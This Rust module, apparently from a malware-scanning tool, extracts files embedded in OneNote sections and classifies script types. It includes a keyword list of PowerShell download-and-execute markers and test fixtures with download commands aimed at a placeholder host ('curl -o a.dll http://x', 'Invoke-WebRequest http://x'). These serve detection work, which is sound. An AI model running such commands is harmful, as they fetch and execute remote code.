//! OneNote sections (`.one`, [MS-ONESTORE]): files embedded in the notebook.
//!
//! [MS-ONESTORE] 2.6.13 FileDataStoreObject: guidHeader `{BDE316E7-2665-4511-A4C4-8D4D0B7A9EAC}`,
//! cbLength (u64), unused (u32), reserved (u64), FileData (cbLength bytes), padding that makes
//! the whole structure a multiple of 8 bytes long, guidFooter `{71FBA722-0F79-4A0B-BB13-899256426B24}`. These objects hold the bytes of
//! every embedded file and picture ("jcidEmbeddedFileNode", 2.2.x of [MS-ONE]).
//!
//! Like strelka's ScanOnenote and Didier Stevens' onedump, the objects are found by scanning for
//! the header GUID rather than by walking the file node lists (2.4) and object spaces: the scan
//! finds every FileDataStoreObject regardless of how the revision store references it, which is
//! what matters for inspecting the content. Each length is bounds-checked against the file; a
//! missing footer is reported (`archive.malformed`) and the report marked incomplete.
//!
//! Extensions: the file's recorded extension is linked to its data when both structures are
//! found: 2.5.21 FileDataStoreObjectReferenceFND (FileNodeID 0x094: a 2.2.4.2
//! FileNodeChunkReference to the FileDataStoreObject, then guidReference) and 2.5.27/2.5.28
//! ObjectDeclarationFileData3(Large)RefCountFND (FileDataReference `<ifndf>{GUID}` and Extension,
//! both 2.2.48 StringInStorageBuffer). Both are found by scanning; a FileNode header only counts
//! when its reference points exactly at a FileDataStoreObject found above, and a FileDataReference
//! only when it has the exact `<ifndf>{GUID}` form.
//!
//! The real file names live in the embedded-file node's EmbeddedFileName property, reached only
//! through the full object-space walk, which this module does not do: embedded files are named
//! `embedded-N.<ext>`, with the recorded extension when linked, otherwise one chosen from the
//! content (see [`ext_for`]; for plain-text scripts a small content heuristic decides between hta,
//! wsf, ps1, js, vbs and bat, so that the file checks treat a script as one).

use crate::bytes::find;
use crate::detect::{self, Kind};
use crate::engine::{Ctx, Via};
use crate::report::Location;

/// `{BDE316E7-2665-4511-A4C4-8D4D0B7A9EAC}` as stored (little-endian GUID fields).
pub const FDSO_HEADER: [u8; 16] = [
    0xE7, 0x16, 0xE3, 0xBD, 0x65, 0x26, 0x11, 0x45, 0xA4, 0xC4, 0x8D, 0x4D, 0x0B, 0x7A, 0x9E, 0xAC,
];
/// `{71FBA722-0F79-4A0B-BB13-899256426B24}` as stored.
pub const FDSO_FOOTER: [u8; 16] = [
    0x22, 0xA7, 0xFB, 0x71, 0x79, 0x0F, 0x0B, 0x4A, 0xBB, 0x13, 0x89, 0x92, 0x56, 0x42, 0x6B, 0x24,
];
/// Most embedded objects taken from one section.
pub const MAX_OBJECTS: usize = 1000;

/// One FileDataStoreObject found in the section.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Embedded<'a> {
    pub offset: usize,
    pub data: &'a [u8],
    /// The footer GUID was where the length says.
    pub footer_ok: bool,
}

/// Scan result.
#[derive(Debug, Default)]
pub struct Scan<'a> {
    pub objects: Vec<Embedded<'a>>,
    /// Offsets of headers whose length runs past the end of the file.
    pub broken: Vec<usize>,
    pub capped: bool,
}

/// Find every FileDataStoreObject.
pub fn scan(bytes: &[u8]) -> Scan<'_> {
    let mut s = Scan::default();
    let mut pos = 0usize;
    while let Some(rel) = bytes.get(pos..).and_then(|h| find(h, &FDSO_HEADER)) {
        let at = pos.saturating_add(rel);
        pos = at.saturating_add(FDSO_HEADER.len());
        if s.objects.len() >= MAX_OBJECTS {
            s.capped = true;
            break;
        }
        let len = bytes
            .get(at.saturating_add(16)..at.saturating_add(24))
            .map(|b| u64::from_le_bytes(crate::bytes::pad::<8>(b)));
        let start = at.saturating_add(36);
        let data = len
            .and_then(|l| usize::try_from(l).ok())
            .and_then(|l| Some((l, start.checked_add(l)?)))
            .and_then(|(l, end)| Some((l, bytes.get(start..end)?)));
        let Some((l, data)) = data else {
            s.broken.push(at);
            continue;
        };
        // The padding makes the whole structure (36 + cbLength + padding + 16) a multiple of 8,
        // so the footer is within 7 bytes after the data; any of those positions is accepted.
        let data_end = start.saturating_add(l);
        let footer_ok = (0..8usize).any(|p| {
            bytes.get(data_end.saturating_add(p)..data_end.saturating_add(p).saturating_add(16))
                == Some(&FDSO_FOOTER[..])
        });
        s.objects.push(Embedded {
            offset: at,
            data,
            footer_ok,
        });
        if footer_ok {
            // Skip the object's own data: a GUID inside it is content, not structure.
            pos = start.saturating_add(l);
        }
    }
    s
}

/// FileDataStoreObjectReferenceFND nodes: (offset of the referenced FileDataStoreObject, its
/// guidReference), kept only when the offset is one of `objects`.
pub fn data_references(bytes: &[u8], objects: &[usize]) -> Vec<(usize, [u8; 16])> {
    let mut out = Vec::new();
    if objects.is_empty() {
        return out;
    }
    let mut i = 0usize;
    while let Some(h) = bytes.get(i..i.saturating_add(4)) {
        let hdr = u32::from_le_bytes(crate::bytes::pad::<4>(h));
        i = i.saturating_add(1);
        if hdr & 0x3FF != 0x094 {
            continue;
        }
        let stp_format = (hdr >> 23) & 3;
        let cb_format = (hdr >> 25) & 3;
        let at = i.saturating_add(3);
        let read = |o: usize, n: usize| -> Option<u64> {
            let b = bytes.get(o..o.saturating_add(n))?;
            Some(b.iter().rev().fold(0u64, |a, &x| (a << 8) | x as u64))
        };
        let (stp, stp_len) = match stp_format {
            0 => (read(at, 8), 8),
            1 => (read(at, 4), 4),
            2 => (read(at, 2).map(|v| v.saturating_mul(8)), 2),
            _ => (read(at, 4).map(|v| v.saturating_mul(8)), 4),
        };
        let cb_len = match cb_format {
            0 => 4,
            1 => 8,
            2 => 1,
            _ => 2,
        };
        let Some(stp) = stp.and_then(|v| usize::try_from(v).ok()) else {
            continue;
        };
        if !objects.contains(&stp) {
            continue;
        }
        let g = at.saturating_add(stp_len).saturating_add(cb_len);
        if let Some(guid) = bytes.get(g..g.saturating_add(16)) {
            out.push((stp, crate::bytes::pad::<16>(guid)));
            if out.len() >= MAX_OBJECTS {
                break;
            }
        }
    }
    out
}

/// `{XXXXXXXX-XXXX-XXXX-XXXX-XXXXXXXXXXXX}` of a GUID stored little-endian.
fn guid_text(g: &[u8; 16]) -> String {
    format!(
        "{{{:02X}{:02X}{:02X}{:02X}-{:02X}{:02X}-{:02X}{:02X}-{:02X}{:02X}-{:02X}{:02X}{:02X}{:02X}{:02X}{:02X}}}",
        g[3], g[2], g[1], g[0], g[5], g[4], g[7], g[6], g[8], g[9], g[10], g[11], g[12], g[13], g[14], g[15]
    )
}

/// FileDataReference `<ifndf>{GUID}` strings with the Extension that follows them:
/// (GUID text in upper case with braces, extension with its dot, lower case).
pub fn recorded_extensions(bytes: &[u8]) -> Vec<(String, String)> {
    const MARK: &[u8] = b"<\0i\0f\0n\0d\0f\0>\0{\0";
    let mut out = Vec::new();
    let mut pos = 0usize;
    while let Some(rel) = bytes.get(pos..).and_then(|h| find(h, MARK)) {
        let at = pos.saturating_add(rel);
        pos = at.saturating_add(MARK.len());
        // cch of "<ifndf>{GUID}" is 45; then the Extension's cch and characters.
        let cch = at
            .checked_sub(4)
            .and_then(|o| bytes.get(o..o.saturating_add(4)));
        if cch != Some(&[45, 0, 0, 0][..]) {
            continue;
        }
        let Some(text) = bytes.get(at..at.saturating_add(90)) else {
            continue;
        };
        let units: Vec<u16> = text
            .chunks_exact(2)
            .map(|c| u16::from_le_bytes(crate::bytes::pad::<2>(c)))
            .collect();
        let Ok(s) = String::from_utf16(&units) else {
            continue;
        };
        let Some(guid) = s.strip_prefix("<ifndf>") else {
            continue;
        };
        let Some(ext_len) = bytes
            .get(at.saturating_add(90)..at.saturating_add(94))
            .map(|b| u32::from_le_bytes(crate::bytes::pad::<4>(b)) as usize)
        else {
            continue;
        };
        if !(2..=16).contains(&ext_len) {
            continue;
        }
        let Some(e) = bytes.get(
            at.saturating_add(94)
                ..at.saturating_add(94)
                    .saturating_add(ext_len.saturating_mul(2)),
        ) else {
            continue;
        };
        let units: Vec<u16> = e
            .chunks_exact(2)
            .map(|c| u16::from_le_bytes(crate::bytes::pad::<2>(c)))
            .collect();
        let Ok(ext) = String::from_utf16(&units) else {
            continue;
        };
        let ext = ext.to_lowercase();
        if ext.starts_with('.')
            && ext.len() >= 2
            && ext
                .get(1..)
                .unwrap_or_default()
                .chars()
                .all(|c| c.is_ascii_alphanumeric() || c == '_' || c == '-')
        {
            out.push((guid.to_ascii_uppercase(), ext));
        }
        if out.len() >= MAX_OBJECTS {
            break;
        }
    }
    out
}

/// A file extension for embedded content, from its detected kind and, for text, a small content
/// heuristic for script types.
pub fn ext_for(bytes: &[u8], kind: Kind) -> &'static str {
    match kind {
        Kind::Pe | Kind::Mz => "exe",
        Kind::Zip => "zip",
        Kind::Ole => "bin",
        Kind::Pdf => "pdf",
        Kind::Rtf => "rtf",
        Kind::OneNote => "one",
        Kind::Lnk => "lnk",
        Kind::Url => "url",
        Kind::Iso | Kind::Udf => "iso",
        Kind::Vhd => "vhd",
        Kind::Img => "img",
        Kind::Sylk => "slk",
        Kind::Gzip => "gz",
        Kind::Rar => "rar",
        Kind::SevenZip => "7z",
        Kind::Cab => "cab",
        Kind::Png => "png",
        Kind::Jpeg => "jpg",
        Kind::Gif => "gif",
        Kind::Mail => "eml",
        Kind::Html | Kind::Script | Kind::Text => script_ext(bytes).unwrap_or(match kind {
            Kind::Html => "html",
            Kind::Script => "hta",
            _ => "txt",
        }),
        Kind::Unknown => "bin",
    }
}

/// The script type of text content, if it clearly is one. Markers:
/// `<hta:application` (HTA); `<job` or `<package` with `<script` (WSF); PowerShell cmdlets and
/// switches; `ActiveXObject(` (JScript); `CreateObject(`, `WScript.`, `On Error Resume Next`,
/// `Sub `…`End Sub` (VBScript); `@echo off`, `cmd /c`, `start /b` (batch).
pub fn script_ext(bytes: &[u8]) -> Option<&'static str> {
    let head = bytes.get(..16 * 1024).unwrap_or(bytes);
    let text = String::from_utf8_lossy(head).to_ascii_lowercase();
    let t = text.trim_start_matches('\u{feff}');
    if t.contains("<hta:application") {
        return Some("hta");
    }
    if (t.contains("<job") || t.contains("<package")) && t.contains("<script") {
        return Some("wsf");
    }
    if t.contains("<html") || t.contains("<script") || t.contains("<body") {
        // HTML with script: mshta runs it the same as an .hta when it is named so; keep html.
        return None;
    }
    const PS: &[&str] = &[
        "invoke-expression",
        "invoke-webrequest",
        "new-object net.webclient",
        "start-process",
        "-encodedcommand",
        "[system.convert]::frombase64string",
        "downloadstring(",
        "set-executionpolicy",
    ];
    if PS.iter().any(|k| t.contains(k)) {
        return Some("ps1");
    }
    if t.contains("activexobject(") || t.contains("wscript.createobject(") && t.contains("var ") {
        return Some("js");
    }
    if t.contains("createobject(")
        || t.contains("wscript.")
        || t.contains("on error resume next")
        || (t.contains("\nsub ") && t.contains("end sub"))
    {
        return Some("vbs");
    }
    if t.starts_with("@echo off")
        || t.contains("\n@echo off")
        || t.contains("cmd /c")
        || t.contains("cmd.exe /c")
        || t.contains("start /b ")
        || t.contains("\nstart /min")
    {
        return Some("bat");
    }
    None
}

/// Report the embedded files and inspect each like an attachment.
pub fn analyze(ctx: &mut Ctx<'_>, bytes: &[u8], loc: &Location) {
    let s = scan(bytes);
    for &at in s.broken.iter().take(20) {
        ctx.finding(
            "archive.malformed",
            loc,
            format!("OneNote: embedded file at offset {at} runs past the end of the file"),
        );
    }
    if !s.broken.is_empty() {
        ctx.incomplete();
    }
    let missing_footer = s.objects.iter().filter(|o| !o.footer_ok).count();
    if missing_footer > 0 {
        ctx.finding(
            "archive.malformed",
            loc,
            format!("OneNote: {missing_footer} embedded file(s) without their end marker"),
        );
        ctx.incomplete();
    }
    if s.capped {
        ctx.limit_hit(
            loc,
            format!("OneNote: more than {MAX_OBJECTS} embedded files"),
        );
    }
    if s.objects.is_empty() {
        return;
    }
    // Objects without their footer may overlap (a crafted file can declare many large ones):
    // what is analysed beyond the file's own size is charged as inflated bytes.
    let offsets: Vec<usize> = s.objects.iter().map(|o| o.offset).collect();
    let refs = data_references(bytes, &offsets);
    let exts = recorded_extensions(bytes);
    let recorded = |offset: usize| -> Option<String> {
        let (_, g) = refs.iter().find(|(o, _)| *o == offset)?;
        let t = guid_text(g);
        exts.iter()
            .find(|(gt, _)| *gt == t)
            .map(|(_, e)| e.trim_start_matches('.').to_string())
    };
    let mut analysed: u64 = 0;
    let mut types: Vec<String> = Vec::new();
    let mut done = 0usize;
    for (i, o) in s.objects.iter().enumerate() {
        if !ctx.charge_entries(1) {
            ctx.limit_hit(loc, "OneNote: entry count over the limit");
            break;
        }
        let before = analysed;
        analysed = analysed.saturating_add(o.data.len() as u64);
        let excess = analysed.saturating_sub((bytes.len() as u64).max(before));
        if excess > 0 && !ctx.charge_inflated(excess) {
            ctx.limit_hit(loc, "OneNote: embedded files overlap beyond the size limit");
            break;
        }
        let ext = recorded(o.offset)
            .unwrap_or_else(|| ext_for(o.data, detect::sniff(o.data, "")).to_string());
        if !types.contains(&ext) {
            types.push(ext.clone());
        }
        let name = format!("embedded-{}.{ext}", i.saturating_add(1));
        ctx.analyze(o.data, &name, &loc.child(name.clone()), Via::Embedded);
        done = done.saturating_add(1);
    }
    let n = s.objects.len();
    let mut ev = format!(
        "{n} embedded file{} ({})",
        if n == 1 { "" } else { "s" },
        types.join(", ")
    );
    if done < n {
        ev.push_str(&format!(
            "; {} not inspected (over a limit)",
            n.saturating_sub(done)
        ));
    }
    ctx.finding("onenote.embedded_file", loc, ev);
}

#[cfg(test)]
mod tests {
    use super::*;

    fn fdso(data: &[u8]) -> Vec<u8> {
        let mut v = FDSO_HEADER.to_vec();
        v.extend_from_slice(&(data.len() as u64).to_le_bytes());
        v.extend_from_slice(&[0; 12]);
        v.extend_from_slice(data);
        v.resize(v.len() + (8 - (36 + data.len() + 16) % 8) % 8, 0);
        v.extend_from_slice(&FDSO_FOOTER);
        v
    }

    #[test]
    fn finds_objects_and_footers() {
        let mut f = vec![0u8; 100];
        f.extend(fdso(b"hello"));
        f.extend(fdso(b"MZ12345678"));
        let s = scan(&f);
        assert_eq!(s.objects.len(), 2);
        assert_eq!(s.objects[0].data, b"hello");
        assert!(s.objects.iter().all(|o| o.footer_ok));
    }

    #[test]
    fn huge_length_is_broken_not_panic() {
        let mut f = FDSO_HEADER.to_vec();
        f.extend_from_slice(&u64::MAX.to_le_bytes());
        f.extend_from_slice(&[0; 20]);
        let s = scan(&f);
        assert!(s.objects.is_empty());
        assert_eq!(s.broken, vec![0]);
        for n in 0..f.len() {
            let _ = scan(&f[..n]);
        }
    }

    #[test]
    fn guid_as_text() {
        let g = [
            0x13, 0x39, 0x6B, 0x50, 0x90, 0xE3, 0x40, 0x1C, 0xB8, 0x42, 0xA3, 0x9A, 0x82, 0x21,
            0xE4, 0xA7,
        ];
        assert_eq!(guid_text(&g), "{506B3913-E390-1C40-B842-A39A8221E4A7}");
    }

    #[test]
    fn script_kinds() {
        assert_eq!(
            script_ext(b"<HTML><HTA:APPLICATION ID=x><script>..."),
            Some("hta")
        );
        assert_eq!(
            script_ext(b"<job id=a><script language=\"VBScript\">"),
            Some("wsf")
        );
        assert_eq!(
            script_ext(b"Set s = CreateObject(\"WScript.Shell\")\ns.Run \"calc\""),
            Some("vbs")
        );
        assert_eq!(
            script_ext(b"var s = new ActiveXObject(\"WScript.Shell\");"),
            Some("js")
        );
        assert_eq!(
            script_ext(b"@echo off\r\ncurl -o a.dll http://x\r\n"),
            Some("bat")
        );
        assert_eq!(
            script_ext(b"powershell Invoke-WebRequest http://x"),
            Some("ps1")
        );
        assert_eq!(script_ext(b"Meeting notes for Monday"), None);
    }
}
